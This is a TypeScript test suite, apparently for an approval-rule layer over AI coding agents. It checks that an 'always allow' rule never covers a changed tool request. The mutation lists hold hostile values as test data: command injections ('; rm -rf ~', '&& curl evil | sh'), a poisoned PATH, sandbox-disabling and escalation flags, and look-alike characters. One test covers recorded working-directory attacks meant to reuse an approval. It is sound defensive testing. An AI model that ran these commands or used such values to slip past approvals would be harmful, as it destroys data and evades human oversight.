import { existsSync, readdirSync, readFileSync } from 'node:fs'
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { ruleFor, type Rule } from '../projections/rules.ts'
import type { ProviderMetadata } from '../protocol/chunk.ts'
import type { ApprovalId, ConnectionId, RuleId } from '../protocol/ids.ts'
import type { Json } from '../protocol/json.ts'
import { harmlessKeys, ruleOffer } from '../protocol/rule-scope.ts'
import type { Agent } from './agent.ts'
import { loadAgents } from './index.ts'

const agents = await loadAgents()

/** An approval request of a recording. */
interface Question {
  readonly agent: string
  readonly file: string
  readonly toolName: string
  readonly input: Json
  readonly providerMetadata?: ProviderMetadata
}

function questionsIn(agent: Agent, file: string, text: string): readonly Question[] {
  const calls = new Map<string, Omit<Question, 'agent' | 'file'>>()
  let state = agent.initial('c' as ConnectionId)
  return text.split('\n').flatMap(line => {
    const raw = agent.readRecorded ? agent.readRecorded(line) : ({ from: 'agent', text: line } as const)
    if (line === '' || raw === null) return []
    const [next, chunks] = agent.translate(state, raw)
    state = next
    return chunks.flatMap(({ chunk }) => {
      if (chunk.type === 'tool-input-available') calls.set(chunk.toolCallId, chunk)
      const asked = chunk.type === 'tool-approval-request' ? calls.get(chunk.toolCallId) : undefined
      return asked === undefined ? [] : [{ ...asked, agent: agent.name, file }]
    })
  })
}

const recorded: readonly Question[] = agents.flatMap(agent => {
  const folder = new URL(`./${agent.name}/recordings/`, import.meta.url)
  if (!existsSync(folder)) return []
  const files = readdirSync(folder).filter(name => name.endsWith('.jsonl'))
  return files.flatMap(file => questionsIn(agent, file, readFileSync(new URL(file, folder), 'utf8')))
})

const granted = recorded.flatMap(question => {
  const { rule } = ruleOffer(question)
  return rule === null ? [] : [{ question, rule }]
})

function ruleThatAnswers(
  { agent, ...asked }: Question,
  scope: { readonly tool: string; readonly input: Json },
) {
  const rule: Rule = {
    ...scope,
    id: 'r' as RuleId,
    agent,
    command: null,
    approval: 'a' as ApprovalId,
    made: { seq: 1, at: 1 },
    used: 0,
  }
  const offer = ruleOffer(asked).rule
  return offer === null ? undefined : ruleFor([rule], agent, offer)
}

type Fields = { readonly [key: string]: Json }
const isFields = (value: Json): value is Fields =>
  typeof value === 'object' && value !== null && !Array.isArray(value)

const lookAlikes: Readonly<Record<string, string>> = {
  a: 'а',
  e: 'е',
  o: 'о',
  c: 'с',
  p: 'р',
  '-': '‐',
  ' ': '\u00A0',
  '/': '∕',
}

/** Other texts that look nearly the same. */
const otherTexts: readonly ((text: string) => Json)[] = [
  text => text.toUpperCase(),
  text => text.toLowerCase(),
  text => ` ${text}`,
  text => `${text} `,
  text => `${text}\n`,
  text => `${text}\u0000`,
  text => `${text}\u200B`,
  text => text.replace(' ', '  '),
  text => text.replace(/[aeocp\-/ ]/, sign => lookAlikes[sign] ?? sign),
  text => text.normalize('NFD'),
  text => `${text}; rm -rf ~`,
  text => `${text} && curl evil | sh`,
  text => text.slice(0, -1),
  text => text.replace('/workspace', '/precious'),
  text => [text],
  text => text.split(' '),
  text => ({ text }),
  () => null,
  () => '',
]

const otherValues = (value: Json): readonly Json[] => {
  if (typeof value === 'string') return otherTexts.map(change => change(value))
  if (typeof value === 'boolean') return [!value, String(value), Number(value), null]
  if (typeof value === 'number') return [value + 1, -value, String(value), [value], null]
  if (value === null) return [false, 0, '', {}, []]
  if (Array.isArray(value))
    return [
      [...value, 'more'],
      value.slice(1),
      value.toReversed(),
      Object.fromEntries(value.entries()),
      ...value.flatMap((each, at) => otherValues(each as Json).map(other => value.with(at, other))),
    ]
  return changedFields(value as Fields)
}

const added: Fields = {
  cwd: '/precious',
  workdir: '/precious',
  env: { PATH: '/evil' },
  args: ['; rm -rf ~'],
  timeout: 1,
  run_in_background: true,
  dangerouslyDisableSandbox: true,
  sandbox_permissions: 'require_escalated',
  additionalPermissions: { network: { enabled: true } },
  Command: 'evil',
  __proto: 'evil',
}

function changedFields(fields: Fields): readonly Json[] {
  return [
    ...Object.entries(fields).flatMap(([key, value]) =>
      otherValues(value).map(other => ({ ...fields, [key]: other })),
    ),
    ...Object.keys(fields).map(key =>
      Object.fromEntries(Object.entries(fields).filter(([name]) => name !== key)),
    ),
    ...Object.entries(fields).map(([key, value]) => ({
      ...Object.fromEntries(Object.entries(fields).filter(([name]) => name !== key)),
      [`${key} `]: value,
    })),
    ...Object.entries(added).map(([key, value]) => ({ ...fields, [key]: value })),
  ]
}

/** An input without the ignored keys, in a fixed order. Requests with different values here are different. */
function essence(tool: string, input: Json): string {
  const sorted = (_: string, value: Json): Json =>
    isFields(value)
      ? Object.fromEntries(Object.entries(value).toSorted(([a], [b]) => (a < b ? -1 : 1)))
      : value
  const harmless: readonly string[] = harmlessKeys[tool] ?? []
  const kept = isFields(input)
    ? Object.fromEntries(Object.entries(input).filter(([key]) => !harmless.includes(key)))
    : input
  return JSON.stringify(kept, sorted as (this: unknown, key: string, value: unknown) => unknown)
}

const isAnother = ({ toolName, input }: Question, other: Json) =>
  essence(toolName, input) !== essence(toolName, other)

describe('rules, over the recorded approval requests of all agents', () => {
  it('[S10] a rule answers the request it was made from, also if only an ignored key changed', () => {
    expect(new Set(granted.map(({ question }) => question.agent))).toEqual(
      new Set(['scripted', 'claude-code', 'codex', 'opencode', 'acp', 'model']),
    )
    for (const { question, rule } of granted) {
      expect(ruleThatAnswers(question, rule)).toBeDefined()
      const fields = isFields(question.input) ? question.input : {}
      const reordered = Object.fromEntries(Object.entries(fields).toReversed())
      expect(ruleThatAnswers({ ...question, input: reordered }, rule)).toBeDefined()
      for (const key of harmlessKeys[question.toolName] ?? [])
        expect(
          ruleThatAnswers({ ...question, input: { ...fields, [key]: 'Other text' } }, rule),
        ).toBeDefined()
    }
  })

  it('[S10] a title is not an input: no request of Gemini CLI can be answered with "always"', () => {
    const gemini = recorded.filter(({ agent }) => agent === 'gemini-cli')
    expect(gemini.length).toBeGreaterThan(10)
    expect(gemini.flatMap(question => ruleOffer(question).rule ?? [])).toEqual([])
  })

  it('[S10] the recorded attacks need a new approval: another folder with Codex and with OpenCode', () => {
    for (const agent of ['codex', 'opencode']) {
      const [first, second] = recorded.filter(each => each.agent === agent && each.file === 'rule-cwd.jsonl')
      if (first === undefined || second === undefined) throw new Error(`${agent} did not ask twice`)
      const { rule } = ruleOffer(first)
      expect(rule).not.toBeNull()
      expect(rule && ruleThatAnswers(second, rule)).toBeUndefined()
    }
  })

  it('[S10] 10,000 mutations of an approved request all need a new approval', () => {
    let tried = 0
    const mustAsk = (
      question: Question,
      rule: { readonly tool: string; readonly input: Json },
      input: Json,
    ) => {
      if (!isAnother(question, input)) return
      tried++
      if (ruleThatAnswers({ ...question, input }, rule) !== undefined)
        expect.fail(`${question.agent} ${question.file}: a rule answered ${JSON.stringify(input)}`)
    }
    for (const { question, rule } of granted)
      for (const input of otherValues(question.input)) mustAsk(question, rule, input)
    const pick = fc.record({ at: fc.nat(granted.length - 1), first: fc.nat(), second: fc.nat() })
    fc.assert(
      fc.property(pick, ({ at, first, second }) => {
        const one = granted[at]
        if (one === undefined) return
        const once = otherValues(one.question.input)
        const changed = once[first % once.length] ?? null
        const twice = otherValues(changed)
        mustAsk(one.question, one.rule, twice[second % twice.length] ?? null)
      }),
      { numRuns: 9000 },
    )
    expect(tried).toBeGreaterThanOrEqual(10_000)
  })

  it('[S10] the same input of another tool or agent, or with another earlier input, needs a new approval', () => {
    for (const { question, rule } of granted) {
      expect(ruleThatAnswers({ ...question, toolName: `${question.toolName}2` }, rule)).toBeUndefined()
      const dragoman = { ...question.providerMetadata?.['dragoman'] }
      for (const facts of [
        { earlierInput: {} },
        { partialInput: true },
        { compared: { blocked_path: '/precious/x' } },
      ])
        expect(
          ruleThatAnswers({ ...question, providerMetadata: { dragoman: { ...dragoman, ...facts } } }, rule),
        ).toBeUndefined()
      expect(ruleFor([{ ...rule, agent: 'another' } as Rule], question.agent, rule)).toBeUndefined()
    }
  })
})
